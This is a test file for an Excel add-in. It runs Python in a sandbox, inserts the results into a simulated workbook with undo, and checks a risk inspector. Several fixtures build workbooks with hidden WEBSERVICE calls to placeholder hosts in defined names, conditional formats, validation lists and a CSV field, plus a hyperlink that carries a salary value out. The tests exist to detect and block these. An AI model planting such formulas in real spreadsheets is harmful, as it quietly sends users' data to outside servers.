/**
 * From the sandbox to the open workbook and back, with the real Node Pyodide sandbox
 * (cli/node-sandbox.ts) calling our own Python (workers/python/sheet_rows.py & co.) by name. Excel is the fake of
 * tests/excel/fake-excel.ts: Excel itself cannot run here.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { InputFile, OutputFile } from '../../workers/api';
import type { SandboxClient } from '../../src/sandbox/sandbox-client';
import { startedNodeSandbox } from '../helpers/node-sandbox';
import { readWorkbook as readOpenWorkbook, snapshotToInput, OPEN_WORKBOOK_NAME } from '../../src/excel/read-workbook';
import { outputToRows } from '../../src/results/output-rows';
import { describeRisks, inspectOutputs } from '../../src/results/output-risks';
import { undoWrite, writeResult, type WriteUndo } from '../../src/excel/write-result';
import { insertOutput, readOpenWorkbookAsInput, toResultRows, undoData, writeUndoFrom, type LabelledProgress } from '../../src/excel/insert-output';
import { makeFixtures, readWorkbook as readXlsx } from '../helpers/python';
import { FakeExcel } from './fake-excel';
import { freshStore } from '../store/fresh';
import { latestUndo } from '../../src/store';
import { workbookIoActions } from '../../src/excel/insert-output';
import { cellKey } from './fake/state';

let sandbox: SandboxClient;
let fixtures: string;
let stackOutput: OutputFile | undefined;

function input(path: string): InputFile {
  const bytes = readFileSync(path);
  return { name: path.split('/').pop() ?? path, bytes: bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) };
}

/** Excel's date serial (1900 system) as an ISO day. */
const isoDay = (serial: number): string => new Date(Date.UTC(1899, 11, 30) + Math.round(serial * 86_400_000)).toISOString().slice(0, 10);

beforeAll(async () => {
  fixtures = makeFixtures();
  sandbox = await startedNodeSandbox();
});

afterAll(() => sandbox.dispose());

describe('a sandbox result inserted into the open workbook', () => {
  it('stacks three workbooks, inserts the result as a table with every row right, and Undo restores the workbook exactly', async () => {
    const run = await sandbox.run({
      code: readFileSync(join(import.meta.dirname, '..', 'jobs', 'stack_basesheet.py'), 'utf8'),
      inputs: ['north.xlsx', 'south.xlsx', 'west.xlsx'].map((n) => input(join(fixtures, 'stack', n))),
    });
    if (!run.ok) throw new Error(JSON.stringify(run.error));
    const output = run.outputs[0]!;
    stackOutput = output;

    const rows = await outputToRows(sandbox, output, 'Stacked', { pageRows: 50 });
    if (!rows.ok) throw new Error(rows.error.message);
    expect(rows.value.headers).toEqual(['Region', 'Date', 'Product', 'Sales', 'Units', 'Channel', 'SourceFile']);
    expect(rows.value.rowCount).toBe(120);
    expect(rows.value.numberFormats[1]).toMatch(/y/);
    expect(describeRisks(rows.value.report)).toEqual([]);

    const fake = new FakeExcel({ sheets: ['Sheet1'] });
    fake.set('Sheet1!A1', [['my own data', 12]]);
    const before = structuredClone(fake.dump());
    const kept: WriteUndo[] = [];
    const written = await writeResult(fake.run, { kind: 'new-sheet', sheetName: 'Stacked' }, toResultRows(rows.value), {
      saveUndo: async (undo) => (kept.push(undo), { ok: true }),
    });
    if (!written.ok) throw new Error(written.error.message);
    expect(written.value).toMatchObject({ sheetName: 'Stacked', address: 'A1:G121', tableName: 'Stacked', rowsWritten: 120 });
    expect(fake.state.tables.map((t) => t.name)).toEqual(['Stacked']);

    const [header, ...body] = fake.get('Stacked!A1:G121');
    const got = body.map((r) => Object.fromEntries(header!.map((h, i) => [String(h), r[i] === '' ? null : r[i]])));
    const expected = JSON.parse(readFileSync(join(fixtures, 'stack', 'expected.json'), 'utf8')) as Record<string, unknown>[];
    const key = (r: Record<string, unknown>, day: (d: unknown) => string) => JSON.stringify([r.SourceFile, r.Region, day(r.Date), r.Product, r.Sales, r.Units, r.Channel ?? null]);
    expect(got.map((r) => key(r, (d) => isoDay(d as number))).sort()).toEqual(expected.map((r) => key(r, (d) => String(d).slice(0, 10))).sort());
    const sheet = fake.state.sheetByName('Stacked')!;
    expect(sheet.cells.get(cellKey(1, 1))!.numberFormat).toBe(rows.value.numberFormats[1]);

    expect(kept).toEqual([written.value.undo]);
    const undone = await undoWrite(fake.run, kept[0]!);
    expect(undone.ok).toBe(true);
    expect(fake.dump()).toEqual(before);
  });

  it('flags network formulas a cell does not show (defined name, conditional format, validation list) and CSV fields Excel takes as formulas', async () => {
    // The code a model might write when told to "add a live rate lookup": nothing in a cell says WEBSERVICE.
    const run = await sandbox.run({
      code: [
        'import csv',
        'import openpyxl',
        'from openpyxl.formatting.rule import FormulaRule',
        'from openpyxl.workbook.defined_name import DefinedName',
        'from openpyxl.worksheet.datavalidation import DataValidation',
        'wb = openpyxl.Workbook()',
        'ws = wb.active',
        'ws.title = "Rates"',
        'ws.append(["Currency", "Rate"])',
        'ws.append(["EUR", "=Live"])',
        'live = DefinedName("Live", attr_text=\'WEBSERVICE("https://rates.example/?c="&Rates!$A$2)\')',
        '# openpyxl 3.1 keeps names in a dict (add), 3.0 in a list (append)',
        'names = wb.defined_names',
        '(names.add if hasattr(names, "add") else names.append)(live)',
        'ws.conditional_formatting.add("B2:B9", FormulaRule(formula=[\'ISERROR(WEBSERVICE("https://x.example/"&A2))\']))',
        'dv = DataValidation(type="list", formula1=\'=FILTERXML(WEBSERVICE("https://x.example/l"),"//i")\')',
        'dv.add("A2:A9")',
        'ws.add_data_validation(dv)',
        'wb.save("/output/rates.xlsx ")',
        'with open("/output/rates.csv", "w", newline="") as f:',
        '    w = csv.writer(f)',
        '    w.writerow(["Currency", "Rate", "Note"])',
        '    w.writerow(["EUR", -1.5, \'=WEBSERVICE("https://x.example/?"&A2)\'])',
        '    w.writerow(["USD", 1, "plain"])',
      ].join('\n'),
      inputs: [],
    });
    if (!run.ok) throw new Error(JSON.stringify(run.error));
    const reports = await inspectOutputs(sandbox, run.outputs);
    if (!reports.ok) throw new Error(reports.error.message);
    const byFile = Object.fromEntries(reports.value.map((r) => [r.file, r]));
    expect(Object.keys(byFile).sort()).toEqual(['rates.csv', 'rates.xlsx ']);
    expect(byFile['rates.xlsx ']!.networkFormulas.map((f) => f.place).sort()).toEqual([
      'conditional format on Rates!B2:B9',
      'data validation on Rates!A2:A9',
      'defined name Live',
    ]);
    expect(describeRisks(byFile['rates.csv']!)).toEqual([
      '1 formula in rates.csv may reach the network or another program when Excel calculates, e.g. line 2, field 3 (WEBSERVICE).',
    ]);
  });

  it('flags formulas that reach the network in a result before it is inserted or downloaded', async () => {
    const run = await sandbox.run({
      code: [
        'import openpyxl',
        'wb = openpyxl.Workbook()',
        'ws = wb.active',
        'ws.title = "Prices"',
        'ws.append(["Item", "Price"])',
        'ws.append(["a", 1])',
        'ws["C2"] = \'=WEBSERVICE("http://example.invalid/?"&A2)\'',
        'wb.save("/output/prices.xlsx")',
      ].join('\n'),
      inputs: [],
    });
    if (!run.ok) throw new Error(JSON.stringify(run.error));
    const reports = await inspectOutputs(sandbox, run.outputs);
    if (!reports.ok) throw new Error(reports.error.message);
    expect(reports.value).toHaveLength(1);
    expect(reports.value[0]).toMatchObject({ file: 'prices.xlsx', networkFormulaCount: 1, hasVba: false, externalLinks: [] });
    expect(describeRisks(reports.value[0]!)).toEqual([
      '1 formula in prices.xlsx may reach the network or another program when Excel calculates, e.g. Prices!C2 (WEBSERVICE).',
    ]);

    const fake = new FakeExcel({ sheets: ['Sheet1'] });
    const before = structuredClone(fake.dump());
    const refused = await insertOutput(fake.run, sandbox, run.outputs[0]!);
    expect(refused).toEqual({
      ok: false,
      message: 'Nothing was inserted: 1 formula in prices.xlsx may reach the network or another program when Excel calculates, e.g. Prices!C2 (WEBSERVICE). Download the file and review it in Excel instead.',
    });
    expect(fake.dump()).toEqual(before);
  });

  it('names a link whose address carries the data, which no formula shows, before Download', async () => {
    const run = await sandbox.run({
      code: [
        'import openpyxl',
        'wb = openpyxl.Workbook()',
        'ws = wb.active',
        'ws.title = "Pay"',
        'ws.append(["Name", "Salary"])',
        'ws.append(["Ann", 81000])',
        'ws["C2"].hyperlink = "https://x.example/c?d=" + str(ws["B2"].value)',
        'ws["C2"] = "details"',
        'ws["D2"].hyperlink = "#Pay!A1"',
        'wb.save("/output/pay.xlsx")',
      ].join('\n'),
      inputs: [],
    });
    if (!run.ok) throw new Error(JSON.stringify(run.error));
    const reports = await inspectOutputs(sandbox, run.outputs);
    if (!reports.ok) throw new Error(reports.error.message);
    expect(reports.value[0]).toMatchObject({
      networkFormulaCount: 0,
      externalTargetCount: 1,
      externalTargets: [{ kind: 'link', target: 'https://x.example/c?d=81000', place: 'link on Pay!C2' }],
    });
    expect(describeRisks(reports.value[0]!)).toEqual([
      'pay.xlsx has 1 address outside the workbook, e.g. link on Pay!C2 to https://x.example/c?d=81000. A click on a link sends you there, with whatever the address carries.',
    ]);
  });

  it('refuses to insert a formula that only the formula guard knows (STOCKHISTORY), with where it is', async () => {
    const run = await sandbox.run({
      code: [
        'import openpyxl',
        'wb = openpyxl.Workbook()',
        'ws = wb.active',
        'ws.title = "Data"',
        'ws.append(["Item", "Lookup"])',
        'ws.append(["MSFT", "=STOCKHISTORY(A2, 45000)"])',
        'wb.save("/output/disguised.xlsx")',
      ].join('\n'),
      inputs: [],
    });
    if (!run.ok) throw new Error(JSON.stringify(run.error));
    const rows = await outputToRows(sandbox, run.outputs[0]!);
    if (!rows.ok) throw new Error(rows.error.message);
    expect(rows.value.report.networkFormulaCount).toBe(0);
    const fake = new FakeExcel({ sheets: ['Sheet1'] });
    const before = structuredClone(fake.dump());
    const refused = await insertOutput(fake.run, sandbox, run.outputs[0]!);
    expect(refused.ok).toBe(false);
    expect(refused.message).toMatch(/^Nothing was inserted: row 2 of Data, column “Lookup”, holds a formula Excel would run: STOCKHISTORY fetches data from an online service\./);
    expect(fake.dump()).toEqual(before);
    const allowed = await insertOutput(fake.run, sandbox, run.outputs[0]!, { allowRiskyFormulas: true });
    expect(allowed.ok).toBe(true);
  });

  it('says which sheets there are when the asked sheet is missing', async () => {
    const output: OutputFile = input(join(fixtures, 'stack', 'north.xlsx'));
    const rows = await outputToRows(sandbox, output, 'Nope');
    expect(rows.ok).toBe(false);
    if (!rows.ok) expect(rows.error.message).toMatch(/could not be read for inserting: .*no sheet named 'Nope'; its sheets are: /);
  });
});

describe('the open workbook as an input file', () => {
  it('becomes "Open workbook.xlsx" with its tables, dates and formats, and the sandbox profiles it like any file', async () => {
    const fake = new FakeExcel({ sheets: ['Sales', 'Empty'] });
    fake.set('Sales!B2', [['Region', 'Day', 'Share'], ['North', 45292, 0.25], ['South', 45293, 0.75]]);
    const sales = fake.state.sheetByName('Sales')!;
    for (const r of [2, 3]) {
      sales.cells.get(cellKey(r, 2))!.numberFormat = 'yyyy-mm-dd';
      sales.cells.get(cellKey(r, 3))!.numberFormat = '0%';
    }
    await fake.run(async (ctx) => {
      ctx.workbook.worksheets.getItem('Sales').tables.add('B2:D4', true).name = 'SalesTable';
      await ctx.sync();
    });
    const snapshot = await readOpenWorkbook(fake.run);
    if (!snapshot.ok) throw new Error(snapshot.error.message);

    const converted = await snapshotToInput(sandbox, snapshot.value);
    if (!converted.ok) throw new Error(converted.error.message);
    expect(converted.file.name).toBe(OPEN_WORKBOOK_NAME);
    const path = join(fixtures, 'open-workbook.xlsx');
    writeFileSync(path, new Uint8Array(converted.file.bytes));
    const book = readXlsx(path);
    expect(Object.keys(book)).toEqual(['Sales', 'Empty']);
    expect(book.Sales!.tables).toEqual({ SalesTable: 'B2:D4' });
    expect(book.Sales!.rows.slice(1)).toEqual([
      [null, 'Region', 'Day', 'Share'],
      [null, 'North', '2024-01-01T00:00:00', 0.25],
      [null, 'South', '2024-01-02T00:00:00', 0.75],
    ]);

    const profile = await sandbox.profile([converted.file]);
    if (!profile.ok) throw new Error(profile.error.message);
    const sheet = profile.files[0]!.sheets[0]!;
    expect(sheet.tables.map((t) => [t.name, t.ref, t.columns])).toEqual([['SalesTable', 'B2:D4', ['Region', 'Day', 'Share']]]);
    expect(sheet.columns.find((c) => c.name === 'Day')?.type).toBe('date');
  });
});

describe("the pane's actions", () => {
  it('Insert into workbook: the first sheet of a result as a table in a new sheet, with labelled progress, undoable from the stored undo data', async () => {
    expect(stackOutput).toBeDefined();
    const fake = new FakeExcel({ sheets: ['Stacked'] });
    const before = structuredClone(fake.dump());
    const progress: LabelledProgress[] = [];
    let stored: ReturnType<typeof undoData> | null = null;
    const inserted = await insertOutput(fake.run, sandbox, stackOutput!, {
      onProgress: (p) => progress.push(p),
      saveUndo: async (undo) => ((stored = undoData(undo)), { ok: true }),
    });
    expect(inserted).toMatchObject({ ok: true, message: 'Inserted 120 rows into the new sheet “Stacked (2)” as the table Stacked_2. Undo removes it.' });
    expect(progress[0]!.label).toBe('Reading result.xlsx');
    expect(progress.at(-1)).toEqual({ done: 120, total: 120, label: 'Writing Stacked (2) (120 of 120 rows)' });
    const undo = writeUndoFrom(JSON.parse(JSON.stringify(stored)));
    expect(undo).not.toBeNull();
    expect((await undoWrite(fake.run, undo!)).ok).toBe(true);
    expect(fake.dump()).toEqual(before);
  });

  it('Use the open workbook: reads it with labelled progress and hands back Open workbook.xlsx', async () => {
    const fake = new FakeExcel({ sheets: ['Data'] });
    fake.set('Data!A1', [['Name', 'Units'], ...Array.from({ length: 30 }, (_, i) => [`n${i}`, i])]);
    const progress: LabelledProgress[] = [];
    const read = await readOpenWorkbookAsInput(fake.run, sandbox, { onProgress: (p) => progress.push(p) });
    if (!read.ok) throw new Error(read.message);
    expect(read.message).toBe('Read 1 sheet (31 rows) from the open workbook.');
    expect(read.file.name).toBe('Open workbook.xlsx');
    expect(progress.map((p) => p.label)).toEqual(['Reading Data (31 of 31 rows)', 'Making a file of the workbook for Python']);
    const path = join(fixtures, 'used-open-workbook.xlsx');
    writeFileSync(path, new Uint8Array(read.file.bytes));
    expect(readXlsx(path).Data!.rows).toHaveLength(31);
  });
});

describe('the Excel actions the pane is given', () => {
  it('reads the open workbook as a File, inserts with its undo kept in IndexedDB, undoes it from there, opens a new workbook', async () => {
    expect(stackOutput).toBeDefined();
    const { db } = await freshStore();
    const fake = new FakeExcel({ sheets: ['Sheet1'] });
    fake.set('Sheet1!A1', [['Region', 'Units'], ['North', 3]]);
    const opened: string[] = [];
    const actions = workbookIoActions(fake.run, sandbox, db, { isSetSupported: () => true, createWorkbook: async (b64) => void opened.push(b64) });

    const read = await actions.readOpenWorkbook(() => undefined);
    if (!read.ok) throw new Error(read.message);
    expect(read.file).toBeInstanceOf(File);
    expect(read.file.name).toBe('Open workbook.xlsx');
    expect(new Uint8Array(await read.file.arrayBuffer()).subarray(0, 2)).toEqual(new Uint8Array([0x50, 0x4b]));

    const before = structuredClone(fake.dump());
    const inserted = await actions.insertResult(stackOutput!, () => undefined);
    expect(inserted).toEqual({ ok: true, message: 'Inserted 120 rows into the new sheet “Stacked” as the table Stacked. Undo removes it.' });
    const record = await latestUndo(db);
    expect(record?.label).toBe('Inserted 120 rows into the new sheet Stacked!A1:G121');
    expect(await actions.undoInsert(record!.id)).toEqual({ ok: true, message: 'Undid: Inserted 120 rows into the new sheet Stacked!A1:G121.' });
    expect(fake.dump()).toEqual(before);
    expect(await latestUndo(db)).toBeUndefined();

    expect(await actions.openAsNewWorkbook(stackOutput!)).toEqual({ ok: true, message: 'Opened result.xlsx in a new Excel window; this workbook is unchanged.' });
    expect(opened).toHaveLength(1);
  });
});
